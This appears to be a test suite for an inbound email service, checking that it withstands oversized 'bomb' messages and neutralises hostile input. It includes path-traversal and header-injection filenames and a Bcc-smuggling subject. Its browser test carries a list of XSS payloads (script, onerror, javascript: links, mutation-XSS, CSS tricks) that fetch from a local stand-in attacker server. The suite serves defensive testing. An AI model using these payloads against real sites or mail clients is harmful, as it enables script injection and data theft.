import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { FindAgentAddresses } from '@conversations/contracts';
import { eventually, startBrowser } from '@conversations/testing';
import { INBOX, type InboundService, mail, type Received, startInbound } from './inbound-service';

let service: InboundService;
beforeAll(async () => {
  service = await startInbound({ EMAIL_PARSE_SECONDS: '5' });
}, 90_000);
afterAll(() => service?.stop(), 60_000);

const blob = (key: string) => readFile(join(service.blobs, key));
const htmlOf = async ({ htmlKey }: Received) => (htmlKey === null ? '' : (await blob(htmlKey)).toString());
const htmlMail = (subject: string, html: string) =>
  mail({ Subject: subject, 'Content-Type': 'text/html; charset=utf-8' }, html);

const multipart = (depth: number): string => {
  const open = Array.from(
    { length: depth },
    (_, index) => `Content-Type: multipart/mixed; boundary="b${index}"\r\n\r\n--b${index}\r\n`,
  );
  return `From: bomb@example.com\r\nTo: ${INBOX}\r\nSubject: Bomb depth\r\n${open.join('')}Content-Type: text/plain\r\n\r\nHello`;
};
const parts = (count: number): string => {
  const one = '--b\r\nContent-Type: text/plain\r\n\r\nx\r\n';
  const head = mail({ Subject: 'Bomb parts', 'Content-Type': 'multipart/mixed; boundary=b' }, '').trimEnd();
  return `${head}\r\n\r\n${one.repeat(count)}--b--\r\n`;
};
const people = Array.from({ length: 50_000 }, (_, index) => `p${index}@example.com`).join(', ');

const BOMBS: [name: string, raw: () => string, complete: boolean][] = [
  ['depth', () => multipart(2_000), false],
  ['parts', () => parts(20_000), false],
  [
    'headers',
    () => mail({ Subject: 'Bomb headers', 'X-A': Array.from({ length: 100_000 }, (_, i) => `value ${i}`) }),
    false,
  ],
  ['html', () => htmlMail('Bomb html', '<p>word <b>bold</b></p>\n'.repeat(900_000)), false],
  ['div', () => htmlMail('Bomb div', '<div>'.repeat(200_000)), false],
  ['recipients', () => mail({ Subject: 'Bomb recipients', To: `${INBOX}, ${people}` }), true],
  ['quotes', () => mail({ Subject: 'Bomb quotes' }, `${'> '.repeat(50)}x\n`.repeat(100_000)), false],
  ['references', () => mail({ Subject: 'Bomb references', References: '<a@b>'.repeat(100_000) }), true],
  ['words', () => mail({ Subject: `Bomb words ${'=?utf-8?q?a?= '.repeat(20_000)}` }), true],
];

describe('security row 9: what is built to hold us up', () => {
  test.each(BOMBS)(
    '%s: stored, shown as far as it goes, and the next mail is not delayed',
    async (name, raw, complete) => {
      await fetch(service.replicas[0]!.url('/metrics'));
      const bytes = raw();
      const id = await service.post(bytes);
      const begun = Date.now();
      await service.send(mail({ Subject: `After ${name}` }));
      await service.messageAbout(`After ${name}`);
      const waited = Date.now() - begun;
      const message = await service.messageAbout(`Bomb ${name}`);
      const metrics = await (await fetch(service.replicas[0]!.url('/metrics'))).text();
      const lag = Number(/^nodejs_eventloop_lag_max_seconds\S* (\S+)/m.exec(metrics)?.[1]);
      console.log(
        `${name}: next mail after ${waited} ms, itself ${Date.now() - begun} ms, longest stall ${(lag * 1_000).toFixed(0)} ms`,
      );
      expect(message.incomplete).toBe(!complete);
      expect((await blob(message.rawKey)).equals(Buffer.from(bytes))).toBe(true);
      expect(message.to.length + message.cc.length).toBeLessThanOrEqual(100);
      const { rows } = await service.sql.query<{ state: string; dead: boolean }>(
        `SELECT state, EXISTS (SELECT 1 FROM outbox WHERE key = id AND subject = 'dlq.in.email.raw-mail') AS dead
       FROM raw_mail WHERE id = $1`,
        [id],
      );
      expect(rows).toEqual([{ state: complete ? 'RECEIVED' : 'INCOMPLETE', dead: !complete }]);
    },
    60_000,
  );

  test('a mail that takes long lets the next one pass', async () => {
    const agents = Promise.withResolvers<void>();
    // Whoever sent a mail on by hand is asked for; until the answer comes the mail is not done.
    const answering = async () => {
      await agents.promise;
      return { addresses: [] };
    };
    const stop = service.messaging.serve(FindAgentAddresses, answering, { queue: 'test' });
    try {
      await service.messaging.connection.nats.flush();
      const body =
        '---------- Forwarded message ---------\nFrom: Bea <bea@example.net>\nSubject: Lamp\nTo: <a@b.example>\n\nBroken.';
      const id = await service.post(mail({ Subject: 'Fwd: Takes long' }, body));
      await service.send(mail({ Subject: 'Passes' }));
      await service.messageAbout('Passes');
      expect((await service.received()).map(({ subject }) => subject)).not.toContain('Fwd: Takes long');
      // Nor was it given up for now.
      expect(service.replicas[0]!.logs()).not.toContain(id);
      agents.resolve();
      await service.messageAbout('Fwd: Takes long');
    } finally {
      agents.resolve();
      stop();
    }
  }, 60_000);

  test('a mail that is too much for its thread is shown by its header, and replay works on it again', async () => {
    const slow = await service.addReplica({ EMAIL_PARSE_MEMORY_MB: '8', EMAIL_SMTP: 'off' });
    await slow.stop();
    const before = (await service.received()).length;
    await service.replay('incomplete');
    await eventually(async () => {
      const { rows } = await service.sql.query(`SELECT 1 FROM raw_mail WHERE state = 'ACCEPTED'`);
      expect(rows).toEqual([]);
    });
    // What still cannot be read completely is the same message.
    expect(await service.received()).toHaveLength(before);
  }, 60_000);
});

describe('security rows 2, 3 and 10: names and types from outside', () => {
  test('an attachment has a random key, a type by its content, and its name as text', async () => {
    const names = [
      '../../etc/passwd',
      'a\u202Egnp.exe',
      `${'n'.repeat(5_000)}.pdf`,
      'zero\u200Bwidth.txt',
      'x\r\nBcc: y',
    ];
    const encoded = (name: string) => `=?utf-8?b?${Buffer.from(name).toString('base64')}?=`;
    const files = names.map(
      (name) =>
        `--b\r\nContent-Type: image/png; name="${encoded(name)}"\r\nContent-Disposition: attachment; filename="${encoded(name)}"\r\n\r\n<script>alert(1)</script>\r\n`,
    );
    const head = mail({ Subject: 'Names', 'Content-Type': 'multipart/mixed; boundary=b' }, '').trimEnd();
    await service.post(`${head}\r\n\r\n--b\r\n\r\nText\r\n${files.join('')}--b--\r\n`);
    const { attachments } = await service.messageAbout('Names');
    expect(attachments.map(({ filename }) => filename.slice(0, 12))).toEqual([
      'passwd',
      'agnp.exe',
      'nnnnnnnnnnnn',
      'zerowidth.tx',
      'xBcc: y',
    ]);
    for (const { contentType, storageKey, filename } of attachments) {
      expect(contentType).not.toMatch(/image|html/);
      expect(storageKey).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{62}$/);
      expect(filename.length).toBeLessThanOrEqual(200);
    }
    expect(new Set(attachments.map(({ storageKey }) => storageKey)).size).toBe(attachments.length);
  });

  test('a subject or name with line ends and NUL is one line of text', async () => {
    const hidden = Buffer.from('Two\r\nBcc: evil@example.com\u0000lines').toString('base64');
    await service.post(mail({ Subject: `=?utf-8?b?${hidden}?=`, From: `=?utf-8?b?${hidden}?= <ann@example.com>` }));
    const message = await service.messageAbout('Two');
    expect(message.subject).toBe('Two Bcc: evil@example.comlines');
    expect(message.from.name).toBe('Two Bcc: evil@example.comlines');
  });
});

/** How the agents' screens show a mail; security.md, row 1. */
const frame = (html: string) => `<!doctype html><meta http-equiv="Content-Security-Policy"
  content="default-src 'none'; img-src data: blob:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'"><body>${html}</body>`;

test('security rows 1 and 5: hostile HTML runs nothing and loads nothing, cleaned and in its frame, in a real browser', async () => {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.end('<script>parent.document.title="owned"</script>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const run = `top.document.title='owned';fetch('${evil}/ran')`;
  const attacks = [
    `<script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `<svg onload="${run}"><script>${run}</script><image href="${evil}/svg"/></svg>`,
    `<a href="javascript:${run}">click</a><a href="jav&#x0A;ascript:${run}">click</a>`,
    `<base href="${evil}/"><a href="relative">x</a>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    `<link rel="stylesheet" href="${evil}/css"><style>@import url(${evil}/import);body{background:url(${evil}/bg)}</style>`,
    `<div style="background:url(${evil}/style);position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">overlay</div>`,
    `<div style="width: expression(${run});color:red;background-image:u\\72l(${evil}/esc)">x</div>`,
    `<form action="${evil}/form"><input name=a><button>Go</button></form>`,
    `<iframe src="${evil}/frame" srcdoc="<script>${run}</script>"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<img src="${evil}/pixel" srcset="${evil}/srcset 2x"><img src="//127.0.0.1:1/pixel"><video poster="${evil}/poster" src="${evil}/video"></video>`,
    `<img src="cid:none"><img src="data:image/svg+xml,<svg onload=alert(1)>"><table background="${evil}/table"><tr><td>words of the mail</td></tr></table>`,
    // Nothing ends these: they swallow what follows, so they come last.
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ].join('\n');
  await service.post(htmlMail('Hostile', attacks));
  const message = await service.messageAbout('Hostile');
  const html = await htmlOf(message);
  expect(html).not.toMatch(/<(script|style|svg|iframe|form|input|object|embed|base|meta|link|math|video)/i);
  expect(html).not.toMatch(/ (on\w+|src|srcset|background|action|poster)=/i);
  expect(html).not.toMatch(/javascript|expression|url\(|position|z-index/i);
  expect(html).toContain(`data-remote-src="${evil}/pixel"`);
  expect(message.text).toContain('words of the mail');
  // Nothing is fetched while it is taken in.
  expect(requests).toEqual([]);

  const browser = await startBrowser();
  try {
    const page = await browser.newPage();
    const asked: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith('about:')) asked.push(request.url());
    });
    for (const content of [html, attacks]) {
      await page.setContent('<title>clean</title><body></body>');
      // As text: the types of these tests know no browser.
      await page.evaluate(`new Promise((resolve) => {
        const element = document.createElement('iframe');
        element.setAttribute('sandbox', 'allow-same-origin allow-popups allow-popups-to-escape-sandbox');
        element.addEventListener('load', () => resolve());
        element.srcdoc = ${JSON.stringify(frame(content)).replaceAll('</script', '<\\/script')};
        document.body.append(element);
      })`);
      const inner = page.frames().at(-1)!;
      for (const link of await inner.locator('a').all()) await link.dispatchEvent('mouseover');
      expect(await page.title()).toBe('clean');
      if (content === html) expect(asked).toEqual([]);
    }
    // The second round shows that the frame holds what the cleaning would have let through: asked for, and stopped by its policy.
    expect(requests).toEqual([]);
  } finally {
    await browser.close();
    server.close();
  }
}, 180_000);

test('inline pictures are named in the HTML and no files; remote ones wait for an agent', async () => {
  const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8BQDwAEgAF/pooBPQAAAABJRU5ErkJggg==';
  const head = mail({ Subject: 'Pictures', 'Content-Type': 'multipart/related; boundary=b' }, '').trimEnd();
  await service.post(
    `${head}\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>Look</p><img src="cid:one"><img src="https://example.com/p.png"><script>1</script>\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <one>\r\nContent-Disposition: inline; filename=one.png\r\nContent-Transfer-Encoding: base64\r\n\r\n${png}\r\n--b--\r\n`,
  );
  const message = await service.messageAbout('Pictures');
  const [picture] = message.attachments;
  expect(picture).toMatchObject({ inline: true, contentType: 'image/png', filename: 'one.png' });
  const html = await htmlOf(message);
  expect(html).toContain(`data-attachment="${picture!.id}"`);
  expect(html).toContain('data-remote-src="https://example.com/p.png"');
  expect(message.text).toBe('Look');
});
